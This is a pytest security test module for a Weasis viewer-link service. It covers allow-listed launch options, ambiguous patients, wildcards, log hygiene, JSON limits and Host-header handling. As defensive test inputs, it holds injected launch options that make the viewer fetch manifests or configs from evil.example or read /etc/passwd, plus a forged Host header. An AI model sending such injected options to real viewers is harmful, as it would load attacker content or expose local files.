"""Safe by default, over HTTP on the local stack, where a user meets each case (docs/security.md, "Safe by default"):
launch options on allow-lists, one patient or a clear answer, bounded wildcards, no capability in any log line,
strict JSON bodies, PUBLIC_BASE_URL checked at cold start, each instance once across archives, and the local
stack's own key, links and access log. Every refusal is a 4xx problem JSON and leaves nothing in S3."""

from __future__ import annotations

import copy
import json
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote_plus

import pytest
import yaml

from weasis_link.fingerprint import manifest_fingerprint
from weasis_link_dev.pytest_stack import StackFactory, StackHandle, manifest_ids_in
from weasis_link_dev.weasis_client import fetch_manifest, parse_launch_uri, read_manifest, validate

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_CONFIG: dict[str, Any] = yaml.safe_load((ROOT / "functions" / "api" / "weasis-link.yaml").read_text())
NAMES = ("Müller", "Ødegård", "山田", "Dupont", "Brien")


def sample_config(tmp: Path, name: str, **changes: Any) -> Path:
    """The embedded sample configuration with `changes` merged in (connector.* keys as dotted names)."""
    config = copy.deepcopy(DEFAULT_CONFIG)
    for key, value in changes.items():
        node = config
        *parents, last = key.split(".")
        for p in parents:
            node = node.setdefault(p, {})
        node[last] = value
    path = tmp / f"{name}.yaml"
    path.write_text(json.dumps(config))
    return path


def problem(status: int, headers: dict[str, str], body: bytes) -> dict[str, Any]:
    assert headers["Content-Type"].startswith("application/problem+json"), (status, body[:200])
    answer: dict[str, Any] = json.loads(body)
    assert answer["status"] == status
    return answer


def refused(stack: StackHandle, path: str, status: int, code: str, **kwargs: Any) -> dict[str, Any]:
    """A refusal: the status, the problem code, a detail saying what to do, no patient name, nothing in S3."""
    before = stack.object_keys()
    got, headers, body = stack.request(kwargs.pop("method", "GET"), path, stack.token(), **kwargs)
    assert got == status, (path, got, body[:300])
    answer = problem(status, headers, body)
    assert answer["type"] == f"urn:weasis-link:problem:{code}", answer
    assert answer["detail"]
    text = body.decode("utf-8")
    assert not any(n in text for n in NAMES), text
    assert stack.object_keys() == before
    return answer


def manifest_json(stack: StackHandle, query: str) -> dict[str, Any]:
    status, _, body = stack.get(f"/manifests?{query}", stack.token())
    assert status == 200, body[:300]
    answer: dict[str, Any] = json.loads(body)
    return answer


def upload_json(document: object) -> dict[str, Any]:
    return {"method": "POST", "body": json.dumps(document).encode(), "headers": {"Content-Type": "application/json"}}


@pytest.fixture(scope="module")
def configs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("safe-by-default")


# --- 1. launch options on allow-lists --------------------------------------------------------------------------
EVIL = "arg=dicom%3Aget%20-w%20https%3A//evil.example/m.xml&cdb=https%3A%2F%2Fevil.example%2Fweasis"


@pytest.mark.parametrize("route", ["/weasis", "/manifests", "/IHEInvokeImageDisplay?requestType=PATIENT&"])
def test_launch_options_are_refused_unless_configured(local_stack: StackHandle, route: str) -> None:
    sep = "" if route.endswith("&") else "?"
    answer = refused(
        local_stack, f"{route}{sep}patientID=WLS-1001%5E%5E%5EWEASIS-DEMO&{EVIL}", 400, "launch-option-not-allowed"
    )
    assert sorted(e["field"] for e in answer["errors"]) == ["arg", "cdb"]
    for option in ("pro=felix.config.properties%20x", "pro=weasis.aet%20X", "arg=dicom%3Aclose%20--all"):
        answer = refused(local_stack, f"/weasis?patientID=WLS-1001&{option}", 400, "launch-option-not-allowed")
        assert [e["field"] for e in answer["errors"]] == [option[:3]]


def test_an_empty_cdb_means_the_installed_weasis(local_stack: StackHandle) -> None:
    status, headers, _ = local_stack.get("/weasis?patientID=WLS-1001&cdb", local_stack.token())
    assert status == 302 and "weasis%3Aconfig" not in headers["Location"]


@pytest.fixture(scope="module")
def options_stack(local_stack_factory: StackFactory, configs: Path) -> StackHandle:
    policy = {"cdb": ["https://viewer.example/weasis"], "pro": ["weasis.aet"], "arg": ["dicom:close --all"]}
    return local_stack_factory(config=sample_config(configs, "options", **{"launch-options": policy}))


def test_allowed_launch_options_reach_the_viewer(options_stack: StackHandle) -> None:
    query = "patientID=WLS-1001&cdb=https%3A%2F%2Fviewer.example%2Fweasis%2F&pro=weasis.aet+WEASISLINK&arg=dicom%3Aclose+--all"
    status, headers, _ = options_stack.get(f"/weasis?{query}", options_stack.token())
    assert status == 302
    assert parse_launch_uri(headers["Location"])["weasis:config"] == [
        ["cdb=https://viewer.example/weasis/", "pro=weasis.aet WEASISLINK", "arg=dicom:close --all"]
    ]


@pytest.mark.parametrize(
    ("option", "field"),
    [
        ("cdb=https%3A%2F%2Fevil.example%2Fweasis", "cdb"),
        ("pro=weasis.user+x", "pro"),
        ("pro=felix.config.properties+https%3A%2F%2Fevil.example", "pro"),
        ("pro=weasis.config.url+https%3A%2F%2Fevil.example", "pro"),
        ("pro=http.authorization+x", "pro"),
        ("pro=org.osgi.framework.storage+%2Ftmp", "pro"),
        ("arg=dicom%3Aget+-w+https%3A%2F%2Fevil.example%2Fm.xml", "arg"),
        ("arg=dicom%3Aget+-l+%2Fetc%2Fpasswd", "arg"),
        ("arg=dicom%3Aget+-z+https%3A%2F%2Fevil.example%2Fx.zip", "arg"),
        ("arg=dicom%3Ars+-u+https%3A%2F%2Fevil.example", "arg"),
        ("arg=dicom%3Aclose+--all+https%3A%2F%2Fevil.example", "arg"),
        ("arg=dicom%3Aclose+-p+X", "arg"),
    ],
)
def test_configured_allow_lists_refuse_everything_else(options_stack: StackHandle, option: str, field: str) -> None:
    answer = refused(options_stack, f"/weasis?patientID=WLS-1001&{option}", 400, "launch-option-not-allowed")
    assert [e["field"] for e in answer["errors"]] == [field]


def test_a_configuration_that_allows_a_dangerous_key_fails_the_cold_start(
    local_stack_factory: StackFactory, configs: Path
) -> None:
    config = sample_config(configs, "dangerous", **{"launch-options": {"pro": ["felix.config.properties"]}})
    with pytest.raises(RuntimeError, match=r"felix\.config\.properties can never be allowed"):
        local_stack_factory(config=config)


# --- 2. one patient or a clear answer ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "kwargs"),
    [
        ("/manifests?patientID=WLS-1003", {}),
        ("/manifests?patientID=WLS-1003%5E%5E%5E", {}),
        ("/weasis?patientID=WLS-1003", {}),
        ("/weasis?patientID=WLS-1003&format=html", {}),
        ("/IHEInvokeImageDisplay?requestType=PATIENT&patientID=WLS-1003", {}),
        ("/manifests", upload_json({"patientID": "WLS-1003"})),
    ],
)
def test_a_patient_id_without_issuer_held_by_two_patients_is_a_409(
    local_stack: StackHandle, path: str, kwargs: dict[str, Any]
) -> None:
    answer = refused(local_stack, path, 409, "ambiguous-patient", **kwargs)
    assert answer["issuers"] == ["CLINIC-B", "WEASIS-DEMO"]
    assert answer["patients"] == 2
    assert "^^^" in answer["detail"]


def test_the_issuer_makes_it_one_patient(local_stack: StackHandle) -> None:
    answer = manifest_json(local_stack, "patientID=WLS-1003%5E%5E%5ECLINIC-B")
    assert answer["patients"] == 1 and answer["warnings"] == []
    [view] = read_manifest(fetch_manifest(answer["manifestUrl"]).xml)
    assert {(p["PatientID"], p["IssuerOfPatientID"]) for p in view.patients} == {("WLS-1003", "CLINIC-B")}
    status, headers, _ = local_stack.get("/weasis?patientID=WLS-1003%5E%5E%5ECLINIC-B", local_stack.token())
    assert status == 302 and headers["Location"].startswith("weasis://")


def test_a_deployment_may_warn_instead(local_stack_factory: StackFactory, configs: Path) -> None:
    stack = local_stack_factory(config=sample_config(configs, "warn", **{"connector.ambiguous-patient": "warn"}))
    answer = manifest_json(stack, "patientID=WLS-1003")
    assert answer["patients"] == 2
    [warning] = answer["warnings"]
    assert "CLINIC-B" in warning and "WEASIS-DEMO" in warning
    xml = fetch_manifest(answer["manifestUrl"]).xml
    assert validate(xml) == []
    [view] = read_manifest(xml)
    assert view.message is not None and view.message["severity"] == "WARN"
    assert "CLINIC-B" in view.message["description"]


def test_a_default_issuer_applies_to_bare_patient_ids(local_stack_factory: StackFactory, configs: Path) -> None:
    stack = local_stack_factory(
        config=sample_config(configs, "issuer", **{"connector.config.sample.default-issuer": "WEASIS-DEMO"})
    )
    answer = manifest_json(stack, "patientID=WLS-1003")
    assert answer["patients"] == 1
    [view] = read_manifest(fetch_manifest(answer["manifestUrl"]).xml)
    assert {p["IssuerOfPatientID"] for p in view.patients} == {"WEASIS-DEMO"}
    # With a default issuer everywhere nothing is left to decide after the query: the launch answers at once.
    status, headers, _ = stack.get("/weasis?patientID=WLS-1003", stack.token())
    assert status == 302 and headers["Location"].startswith("weasis://")


# --- 3. wildcards are bounded -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "path",
    [
        "/manifests?patientID=W*",
        "/manifests?patientID=*-*",
        "/manifests?patientID=*1*",
        "/manifests?patientID=%3FLS*",
        "/manifests?accessionNumber=A*",
        "/manifests?patientID=WLS-100*",
        "/weasis?patientID=W*",
        "/IHEInvokeImageDisplay?requestType=PATIENT&patientID=W*",
    ],
)
def test_wildcards_are_off_by_default(local_stack: StackHandle, path: str) -> None:
    refused(local_stack, path, 400, "wildcard-not-allowed")


def test_the_json_upload_goes_through_the_same_rules(local_stack: StackHandle) -> None:
    refused(local_stack, "/manifests", 400, "wildcard-not-allowed", **upload_json({"patientID": "W*"}))


@pytest.fixture(scope="module")
def wildcard_stack(local_stack_factory: StackFactory, configs: Path) -> StackHandle:
    search = {"wildcards": ["PATIENT_ID", "STUDY_ACCESSION_NUMBER"]}
    return local_stack_factory(
        config=sample_config(configs, "wildcards", **{"connector.config.sample.search-criteria": search})
    )


def test_an_opted_in_wildcard_needs_a_prefix_and_may_match_one_patient(wildcard_stack: StackHandle) -> None:
    for path in ("/manifests?patientID=W*", "/manifests?patientID=%3FLS*", "/manifests?accessionNumber=AC*"):
        refused(wildcard_stack, path, 400, "wildcard-not-allowed")
    answer = refused(wildcard_stack, "/manifests?patientID=WLS-100*", 409, "too-many-patients")
    assert (answer["patients"], answer["maxPatients"]) == (5, 1)
    refused(wildcard_stack, "/weasis?patientID=WLS*", 409, "too-many-patients")
    refused(wildcard_stack, "/manifests", 409, "too-many-patients", **upload_json({"accessionNumber": "ACC-202*"}))
    assert manifest_json(wildcard_stack, "patientID=WLS-1001*")["patients"] == 1


# --- 4. no capability in any log line -----------------------------------------------------------------------------
def test_logs_carry_fingerprints_never_manifest_ids(local_stack: StackHandle) -> None:
    token = local_stack.token()
    issued = set()
    answer = manifest_json(local_stack, "patientID=WLS-1001%5E%5E%5EWEASIS-DEMO")
    issued.add(answer["manifestId"])
    status, headers, _ = local_stack.get("/manifests/" + answer["manifestId"], token)
    assert status == 302
    status, headers, _ = local_stack.get("/weasis?studyUID=2.25.135498294846748676357076407460509085147", token)
    assert status == 302
    [launched] = manifest_ids_in(headers["Location"])
    issued.add(launched)
    status, _, _ = local_stack.get(f"/manifests/{launched}", token)  # waits for the build, then 302
    assert status == 302
    log = local_stack.log()
    for manifest_id in issued:
        assert manifest_id not in log and quote(manifest_id) not in log
    assert manifest_fingerprint(launched) in log  # the launch and its build correlate through the fingerprint
    assert "GET /manifests/{id}" in log  # the access log names the route


# --- 5. JSON bodies ---------------------------------------------------------------------------------------------------
def test_deep_or_duplicated_json_is_a_400(local_stack: StackHandle) -> None:
    deep = {"method": "POST", "body": b"[" * 2000 + b"]" * 2000, "headers": {"Content-Type": "application/json"}}
    assert "deeper" in refused(local_stack, "/manifests", 400, "invalid-request", **deep)["detail"]
    duplicate = b'{"patientID": "WLS-1001", "patientID": "WLS-1003"}'
    twice = {"method": "POST", "body": duplicate, "headers": {"Content-Type": "application/json"}}
    assert "twice" in refused(local_stack, "/manifests", 400, "invalid-request", **twice)["detail"]


# --- 6. PUBLIC_BASE_URL ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value", ["https://viewer.example/'", "https://viewer.example/a?b=c", "https://u:p@viewer.example"]
)
def test_a_bad_public_base_url_fails_the_cold_start(local_stack_factory: StackFactory, value: str) -> None:
    with pytest.raises(RuntimeError, match="environment variable PUBLIC_BASE_URL"):
        local_stack_factory(env={"PUBLIC_BASE_URL": value})


# --- 7. cross-archive duplicates ------------------------------------------------------------------------------------
def test_an_instance_in_two_archives_is_listed_once(local_stack_factory: StackFactory, configs: Path) -> None:
    sample = DEFAULT_CONFIG["connector"]["config"]["sample"]
    archives = {"connector.default": ["sample", "copy"], "connector.config": {"sample": sample, "copy": sample}}
    stack = local_stack_factory(config=sample_config(configs, "twice", **archives))
    single = manifest_json(stack, "patientID=WLS-1001&archive=sample")
    both = manifest_json(stack, "patientID=WLS-1001")
    for key in ("patients", "studies", "series", "instances"):
        assert both[key] == single[key], key
    [warning] = both["warnings"]
    assert "sample and copy" in warning
    xml = fetch_manifest(both["manifestUrl"]).xml
    assert validate(xml) == []
    views = read_manifest(xml)
    assert [v.arc_id for v in views] == ["sample"]
    sops = [i.sop_uid for v in views for i in v.instances]
    assert len(sops) == len(set(sops)) == single["instances"]
    # archive= in another order does not change who lists them: the configured order does.
    reordered = manifest_json(stack, "patientID=WLS-1001&archive=copy&archive=sample")
    assert [v.arc_id for v in read_manifest(fetch_manifest(reordered["manifestUrl"]).xml)] == ["sample"]


# --- 8. the local stack itself -----------------------------------------------------------------------------------
def test_links_come_from_the_configured_address_not_the_host_header(local_stack: StackHandle) -> None:
    status, _, body = local_stack.get(
        "/manifests?patientID=WLS-1001", local_stack.token(), headers={"Host": "evil.example"}
    )
    assert status == 200
    answer = json.loads(body)
    assert answer["manifestLink"].startswith(local_stack.api_url + "/manifests/")
    assert "evil.example" not in unquote_plus(answer["weasisUrl"])


def test_two_processes_creating_the_development_key_agree(tmp_path: Path) -> None:
    key_file = tmp_path / "fresh" / "dev-signing-key.pem"
    script = (
        "import sys; from pathlib import Path; from weasis_link_dev.dev_keys import SigningKey; "
        "print(SigningKey.load_or_create(Path(sys.argv[1])).public_jwk()['n'])"
    )
    processes = [
        subprocess.Popen([sys.executable, "-c", script, str(key_file)], stdout=subprocess.PIPE, text=True)
        for _ in range(6)
    ]
    moduli = {p.communicate(timeout=60)[0].strip() for p in processes}
    assert all(p.returncode == 0 for p in processes)
    assert len(moduli) == 1 and "" not in moduli
    assert [p.name for p in key_file.parent.iterdir()] == [key_file.name]  # no temporary file left behind
    assert key_file.stat().st_mode & 0o077 == 0
